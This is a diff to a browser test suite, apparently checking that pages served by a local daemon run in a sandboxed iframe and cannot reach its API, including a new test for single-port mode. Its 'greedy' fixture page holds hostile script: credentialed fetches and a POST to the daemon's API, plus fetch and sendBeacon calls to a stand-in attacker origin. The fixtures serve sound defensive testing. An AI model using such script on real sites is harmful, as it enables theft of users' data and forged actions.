@@ -87,11 +87,11 @@ async function inner(page: Page): Promise<Frame> {
 }
 
 /** A page that tries all it can, and says what it got. */
-const greedy = () => `<!doctype html><html lang="en"><title>greedy</title><main><h1>waits</h1><pre></pre></main><script>
+const greedy = (api = bob.address) => `<!doctype html><html lang="en"><title>greedy</title><main><h1>waits</h1><pre></pre></main><script>
 const got = [];
 const tries = {
-  api: () => fetch("${bob.address}/api/v1/node", { credentials: "include" }).then((r) => r.text()),
-  push: () => fetch("${bob.address}/api/v1/contexts", { method: "POST", mode: "no-cors", credentials: "include", body: '{"name":"stolen"}' }),
+  api: () => fetch("${api}/api/v1/node", { credentials: "include" }).then((r) => r.text()),
+  push: () => fetch("${api}/api/v1/contexts", { method: "POST", mode: "no-cors", credentials: "include", body: '{"name":"stolen"}' }),
   elsewhere: () => fetch("${evil.origin}/fetch?secret"),
   // It says yes and sends nothing.
   beacon: () => { navigator.sendBeacon("${evil.origin}/beacon", "x"); throw 0; },
@@ -169,6 +169,27 @@ describe("a page of somebody whose id nobody compared", () => {
     expect(await page.frameLocator("iframe").locator("pre").innerText()).toBe("");
     expect(evil.hits).toEqual([]);
     await bob.cli("untrust", "alice");
+  });
+});
+
+describe("with one port for all", () => {
+  it("a page runs and reaches as little", async () => {
+    const carol = await Daemon.start("carol", { DSP_HTTP_SINGLE_PORT: "true" });
+    try {
+      const alone = await Visitor.come(browser, carol);
+      await carol.pushAs("page", [{ path: "page.html", bytes: greedy(carol.address) }]);
+      const page = await alone.at("/s/me/main/page");
+      const frame = page.frameLocator("iframe");
+      await frame.getByRole("heading", { name: "tried" }).waitFor();
+      expect(await frame.locator("pre").innerText()).toBe("");
+      expect(await page.locator("iframe").getAttribute("src")).toMatch(/^\/raw\//);
+      expect(await carol.cli("context", "ls")).not.toContain("stolen");
+      expect(evil.hits).toEqual([]);
+      alone.forgive(/./);
+      await alone.leave();
+    } finally {
+      await carol.end();
+    }
   });
 });
 
